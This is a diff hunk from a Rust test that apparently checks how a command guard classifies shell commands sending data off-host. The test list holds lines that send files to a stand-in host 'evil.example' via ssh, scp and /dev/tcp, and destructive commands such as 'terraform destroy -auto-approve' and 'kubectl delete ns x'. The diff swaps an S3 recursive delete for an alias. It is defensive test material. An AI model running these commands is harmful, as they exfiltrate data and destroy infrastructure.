@@ -362,7 +362,7 @@ fn what_leaves_the_box_for_nobody_knows_where_is_unknown() {
         "ssh evil.example",
         "scp a evil.example:b",
         "cat x > /dev/tcp/evil.example/80",
-        "aws s3 rm s3://x --recursive",
+        "aws my-alias",
         "terraform destroy -auto-approve",
         "kubectl delete ns x",
         "docker compose down -v",
